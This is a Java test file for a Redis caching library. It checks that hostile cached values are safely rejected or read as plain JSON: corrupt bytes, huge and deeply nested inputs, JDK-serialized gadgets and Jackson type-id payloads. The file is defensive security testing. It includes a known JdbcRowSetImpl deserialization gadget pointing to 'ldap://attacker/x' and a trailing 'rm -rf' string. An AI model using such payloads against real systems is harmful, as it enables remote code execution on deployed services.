package io.redweave.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.jsontype.impl.LaissezFaireSubTypeValidator;
import io.redweave.RedWeave;
import io.redweave.RedisConfig;
import io.redweave.annotation.Cached;
import io.redweave.codec.JacksonCodec;
import io.redweave.codec.TypeRef;
import io.redweave.reliability.Weaving;
import io.redweave.test.RedisServer;
import io.redweave.test.RedisTest;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.Serializable;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Random;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import redis.clients.jedis.HostAndPort;
import redis.clients.jedis.Jedis;

/**
 * Hostile cached payloads, planted in Redis by whoever can write there: truncated JSON, the wrong type, random
 * bytes, an empty value, huge and deeply nested values, JDK-serialized bytes, and polymorphic type ids naming a
 * gadget class. Each is a miss (deleted and counted) or a plain JSON value; never an exception at a caller, never
 * an instance of the gadget class, even with a user's mapper that has default typing on.
 */
@RedisTest
class HostilePayloadTest {
    private static final String GADGET = Gadget.class.getName();

    private final RedisServer server;
    private RedWeave redweave;
    private Jedis jedis;

    HostilePayloadTest(RedisServer server) {
        this.server = server;
    }

    /** A class whose creation or configuration an attacker would want: it counts both. */
    public static final class Gadget implements Serializable {
        private static final long serialVersionUID = 1L;
        static final AtomicInteger TOUCHED = new AtomicInteger();

        public Gadget() {
            TOUCHED.incrementAndGet();
        }

        public void setCommand(String command) {
            TOUCHED.incrementAndGet();
        }

        private void readObject(java.io.ObjectInputStream in) throws IOException, ClassNotFoundException {
            TOUCHED.incrementAndGet();
            in.defaultReadObject();
        }
    }

    /** A cached value type. */
    public record Profile(String name, int age) {
    }

    /** A cached lookup whose stored entry the test replaces with hostile bytes. */
    public interface Profiles {
        @Cached(key = "profile:{id}", ttl = 300)
        Profile profile(String id);
    }

    /** Loads fresh profiles and counts the loads. */
    public static final class ProfilesImpl implements Profiles {
        final AtomicInteger loads = new AtomicInteger();

        @Override
        public Profile profile(String id) {
            return new Profile("fresh " + id, loads.incrementAndGet());
        }
    }

    /**
     * What a payload that is a JSON object of unknown properties only decodes to: the codec ignores unknown
     * properties (so entries of older or newer class versions still read), so a type id is just such a property.
     */
    private static final Profile EMPTY = new Profile(null, 0);

    @BeforeEach
    void connect() {
        server.flushAll();
        Gadget.TOUCHED.set(0);
        redweave = RedWeave.builder().config(RedisConfig.builder().url(server.uri()).build()).build();
        jedis = new Jedis(new HostAndPort(server.host(), server.port()));
    }

    @AfterEach
    void close() {
        jedis.close();
        redweave.close();
        assertThat(Gadget.TOUCHED.get()).as("gadget constructed or configured").isZero();
    }

    /** The catalogue: a name and the bytes planted. */
    static Map<String, byte[]> catalogue() throws IOException {
        Map<String, byte[]> payloads = new LinkedHashMap<>();
        payloads.put("truncated JSON", utf8("{\"name\":\"al"));
        payloads.put("wrong type: string", utf8("\"just a string\""));
        payloads.put("wrong type: array", utf8("[1,2,3]"));
        payloads.put("wrong field type", utf8("{\"name\":{\"nested\":true},\"age\":\"old\"}"));
        payloads.put("trailing garbage", utf8("{\"name\":\"al\",\"age\":3} rm -rf"));
        byte[] random = new byte[512];
        new Random(42).nextBytes(random);
        payloads.put("random bytes", random);
        payloads.put("empty", new byte[0]);
        payloads.put("huge string (25 MB)", utf8("{\"name\":\"" + "a".repeat(25_000_000) + "\",\"age\":1}"));
        payloads.put("deep nesting (100k)", utf8("[".repeat(100_000) + "]".repeat(100_000)));
        payloads.put("huge number", utf8("{\"name\":\"n\",\"age\":" + "9".repeat(5_000) + "}"));
        payloads.put("JDK-serialized gadget", serialized(new ArrayList<>(List.of("x"))));
        payloads.put("JDK-serialized map", serialized(new HashMap<>(Map.of("name", "al"))));
        payloads.put("type id as property", utf8("{\"@class\":\"" + GADGET + "\",\"command\":\"calc\"}"));
        payloads.put("type id as wrapper array", utf8("[\"" + GADGET + "\",{\"command\":\"calc\"}]"));
        payloads.put("type id as wrapper object", utf8("{\"" + GADGET + "\":{\"command\":\"calc\"}}"));
        payloads.put("known gadget name", utf8("[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":"
                + "\"ldap://attacker/x\",\"autoCommit\":true}]"));
        return payloads;
    }

    @Test
    void cachedCaller_neverSeesAnException_andGetsTheMethodsValue_forEveryHostilePayload() throws IOException {
        ProfilesImpl impl = new ProfilesImpl();
        Profiles profiles = Weaving.weave(redweave, Profiles.class, impl);
        int i = 0;
        int misses = 0;
        for (Map.Entry<String, byte[]> payload : catalogue().entrySet()) {
            String id = "p" + i++;
            jedis.set(("cache:profile:" + id).getBytes(StandardCharsets.UTF_8), payload.getValue());
            Profile profile = profiles.profile(id);
            if (profile.equals(EMPTY)) {
                continue;
            }
            misses++;
            assertThat(profile.name()).as(payload.getKey()).isEqualTo("fresh " + id);
            assertThat(profiles.profile(id)).as(payload.getKey() + ": replaced by the fresh value").isEqualTo(profile);
        }
        assertThat(misses).isGreaterThanOrEqualTo(i - 3);
        assertThat(impl.loads.get()).isEqualTo(misses);
        assertThat(redweave.cache().stats().malformed()).isEqualTo(misses);
    }

    @Test
    void directReads_ofHostilePayloads_areMissesThatDeleteTheEntry_orPlainJsonValues() throws IOException {
        int i = 0;
        long malformed = 0;
        for (Map.Entry<String, byte[]> payload : catalogue().entrySet()) {
            String key = "d" + i++;
            byte[] redisKey = ("cache:" + key).getBytes(StandardCharsets.UTF_8);
            jedis.set(redisKey, payload.getValue());
            Optional<Profile> typed = redweave.cache().get(key, Profile.class);
            if (typed.isEmpty()) {
                assertThat(jedis.exists(redisKey)).as(payload.getKey() + ": deleted").isFalse();
                malformed++;
            } else {
                assertThat(typed.get()).as(payload.getKey()).isEqualTo(EMPTY);
            }

            jedis.set(redisKey, payload.getValue());
            Optional<Object> loose = redweave.cache().get(key, Object.class);
            loose.ifPresent(value -> assertPlainJson(payload.getKey(), value));
            if (loose.isEmpty()) {
                malformed++;
            }
            jedis.set(redisKey, payload.getValue());
            assertThat(redweave.cache().get(key, new TypeRef<List<Profile>>() { })).as(payload.getKey())
                    .satisfiesAnyOf(Optional::isEmpty, value -> assertThat(value.get()).isNotNull());
        }
        assertThat(redweave.cache().stats().malformed()).isGreaterThanOrEqualTo(malformed);
    }

    @Test
    void aUsersMapperWithDefaultTypingOn_stillNeverInstantiatesTheGadget() throws IOException {
        ObjectMapper reckless = new ObjectMapper();
        reckless.activateDefaultTyping(LaissezFaireSubTypeValidator.instance, ObjectMapper.DefaultTyping.NON_FINAL);
        try (RedWeave custom = RedWeave.builder().config(RedisConfig.builder().url(server.uri()).build())
                .codec(new JacksonCodec(reckless)).build()) {
            int i = 0;
            for (Map.Entry<String, byte[]> payload : catalogue().entrySet()) {
                String key = "c" + i++;
                jedis.set(("cache:" + key).getBytes(StandardCharsets.UTF_8), payload.getValue());
                custom.cache().get(key, Object.class).ifPresent(value -> assertPlainJson(payload.getKey(), value));
            }
        }
    }

    private static void assertPlainJson(String what, Object value) {
        assertThat(value).as(what).isInstanceOfAny(Map.class, List.class, String.class, Number.class, Boolean.class);
        if (value instanceof Map<?, ?> map) {
            map.values().forEach(v -> {
                if (v != null) {
                    assertPlainJson(what, v);
                }
            });
        } else if (value instanceof List<?> list) {
            list.forEach(v -> {
                if (v != null) {
                    assertPlainJson(what, v);
                }
            });
        }
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] serialized(Object value) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(value);
            out.writeObject(new Gadget());
        }
        Gadget.TOUCHED.set(0);
        return bytes.toByteArray();
    }
}
